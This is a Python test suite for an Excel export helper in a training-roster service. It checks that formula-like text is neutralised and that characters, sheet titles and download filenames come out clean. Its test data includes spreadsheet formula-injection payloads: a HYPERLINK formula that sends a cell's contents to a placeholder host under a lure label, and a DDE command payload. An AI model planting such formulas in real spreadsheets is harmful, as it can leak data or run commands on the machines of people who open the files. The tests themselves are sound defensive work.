"""The one Excel writer: text stays text, illegal characters never reach the file, names are legal."""

import io
import zipfile
from urllib.parse import unquote

import openpyxl
import pytest
from flask import Flask
from werkzeug.http import parse_options_header

from service.core import excel

FORMULAS = [
    '=HYPERLINK("http://x.invalid/?d="&F2,"点击领取补贴")',
    "+86 138 0000 0000",
    "-减少成本20%",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def _read(data):
    return openpyxl.load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_a_quote_prefixed_text_cell_that_reads_as_typed(text):
    data = excel.workbook_bytes([("表", ["企业名称"], [[text]])])
    cell = _read(data).active["A2"]
    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "\n")  # XML reads CR back as LF
    assert cell.quotePrefix is True
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula element anywhere


def test_ordinary_text_has_no_quote_prefix_and_numbers_stay_numbers():
    cell_text, cell_number = _read(excel.workbook_bytes([("表", ["a", "b"], [["钱多多", 3.5]])])).active[2]
    assert (cell_text.value, cell_text.quotePrefix) == ("钱多多", False)
    assert cell_number.value == 3.5 and cell_number.data_type == "n"


@pytest.mark.parametrize("text", ["#N/A", "#DIV/0!", "#REF!", "#NAME?"])
def test_text_that_looks_like_an_error_value_stays_text(text):
    cell = _read(excel.workbook_bytes([("表", ["职务"], [[text]])])).active["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", False)


def test_rows_from_a_generator_read_back_as_written_mixed_with_hostile_text():
    """A streamed sheet (rows made as they are read): every row comes back, plain and hostile cells alike."""
    def rows():
        for number in range(1, 2001):
            yield [number, f"学员{number:04d}", FORMULAS[number % len(FORMULAS)], None, "#N/A", 2.5, True]

    sheet = _read(excel.workbook_bytes([("花名册", ["序号", "姓名", "企业", "空", "错", "数", "真"], rows())])).active
    read = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert read == [[n, f"学员{n:04d}", FORMULAS[n % len(FORMULAS)].replace("\r", "\n"), None, "#N/A", 2.5, True]
                    for n in range(1, 2001)]
    assert all(row[2].quotePrefix and row[2].data_type == "s" for row in sheet.iter_rows(min_row=2))


def test_characters_xml_cannot_hold_are_dropped_instead_of_failing():
    # Rows stored before input was checked: NUL, vertical tab, escape, lone surrogate.
    stored = ["钱\u000b多多", "a\x00b", "\x1b[31m红", "x\ud800y", "keep\ttab\nand newline"]
    data = excel.workbook_bytes([("花名册", ["姓名"], [[value] for value in stored])])
    values = [row[0].value for row in _read(data).active.iter_rows(min_row=2)]
    assert values == ["钱多多", "ab", "[31m红", "xy", "keep\ttab\nand newline"]


def test_header_and_overlong_cells_are_cleaned_too():
    data = excel.workbook_bytes([("表", ["=列\x07"], [["字" * 40_000]])])
    sheet = _read(data).active
    assert sheet["A1"].value == "=列" and sheet["A1"].data_type == "s"
    assert len(sheet["A2"].value) == excel.MAX_CELL_CHARS


@pytest.mark.parametrize("title, expected", [
    ("第一期/专精特新班: 花名册?", "第一期_专精特新班_ 花名册_"),
    ("[考勤]*表\\", "_考勤__表_"),
    ("很长的班级名称" * 10, ("很长的班级名称" * 10)[:31]),
    ("", "Sheet"),
    ("'引号'", "引号"),
    ("History", "History_"),
])
def test_sheet_titles_are_legal(title, expected):
    assert excel.sheet_title(title) == expected
    assert _read(excel.workbook_bytes([(title, ["a"], [])])).sheetnames == [expected]


def test_sheet_titles_are_unique_after_cutting():
    long = "课" * 40
    names = _read(excel.workbook_bytes([(long, ["a"], []), (long, ["a"], []), ("sheet", [], []),
                                        ("SHEET", [], [])])).sheetnames
    assert names == ["课" * 31, "课" * 28 + "(2)", "sheet", "SHEET(2)"]


def _disposition(filename, ascii_name="roster-1.xlsx"):
    app = Flask(__name__)
    with app.test_request_context():
        response = excel.xlsx_response(filename, [("表", ["a"], [])], ascii_name=ascii_name)
        return response, response.headers["Content-Disposition"]


@pytest.mark.parametrize("class_name, expected", [
    ("第一期/二期 联合班-花名册.xlsx", "第一期-二期 联合班-花名册.xlsx"),
    ('班"级"\\名:*?<>|\x00-考勤表.xlsx', "班-级--名-------考勤表.xlsx"),
    ("report", "report.xlsx"),
    ("", "export.xlsx"),
])
def test_download_name_is_rfc6266_encoded_with_ascii_fallback(class_name, expected):
    response, header = _disposition(class_name)
    assert response.mimetype == excel.XLSX_MIMETYPE
    assert response.headers["Cache-Control"] == "no-store"
    assert header.startswith("attachment;")
    # RFC 6266: a parser that knows filename* takes it; werkzeug's parser is one.
    assert parse_options_header(header)[1]["filename"] == expected
    encoded = header.split("filename*=UTF-8''", 1)[1]
    assert "/" not in encoded and unquote(encoded) == expected
    # the ASCII fallback is the name the export gave, not the Chinese name stripped to ".xlsx"
    assert header.split("filename=", 1)[1].split(";", 1)[0] == "roster-1.xlsx"


@pytest.mark.parametrize("given, fallback", [
    ("registry-template.xlsx", "registry-template.xlsx"), ("class-plan-2026", "class-plan-2026.xlsx"),
    ("archive-6b04/../x y.xlsx", "archive-6b04-..-x-y.xlsx"), ("班级.xlsx", "export.xlsx"), ("", "export.xlsx"),
])
def test_ascii_fallback_names_are_plain_ascii(given, fallback):
    assert excel.ascii_download_name(given) == fallback


# ---------------------------------------------------------------- exports never change accepted text (issue 19 F13)

def _read_as_excel_does(data):
    """Cell values as Excel shows them: calamine undoes `_xHHHH_` escapes as Excel does (openpyxl does not)."""
    from python_calamine import CalamineWorkbook

    return [row[0] for row in CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()]


@pytest.mark.parametrize("text", [
    "产品_x0041_型号",  # Excel reads _x0041_ in the XML as "A": written escaped
    "_x000B_", "a_x005F_b", "_X0041_", "x_x00", "董事长\ufffd", "王𠇔\U0001fffd",
])
def test_text_that_looks_like_an_excel_escape_reads_back_as_written(text):
    data = excel.workbook_bytes([("表", ["职务"], [[text], ["=" + text]])])
    assert _read_as_excel_does(data) == ["职务", text, "=" + text]


def test_every_text_the_text_field_accepts_is_exported_unchanged():
    """Whatever a Text field stores reads back from the export exactly: no character is dropped
    (U+FFFF used to be), no escape is read as another character."""
    from hypothesis import HealthCheck, given, settings, strategies as st
    from marshmallow import ValidationError

    from schemas.text import Text

    field = Text(max_length=1000, multiline=True)
    characters = st.characters(codec="utf-8") | st.sampled_from(
        ["_x0041_", "_x", "\ufffe", "\uffff", "\ufdd0", "\U0010ffff", "\r\n", "\u2028", "\x0b", "\u202e"])

    @settings(max_examples=150, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
    @given(st.lists(characters, max_size=40).map("".join))
    def exported_unchanged(typed):
        try:
            stored = field.clean(typed)
        except ValidationError:
            return
        if not stored:  # an empty cell is no row for calamine
            return
        assert _read_as_excel_does(excel.workbook_bytes([("表", ["h"], [[stored]])])) == ["h", stored]

    exported_unchanged()
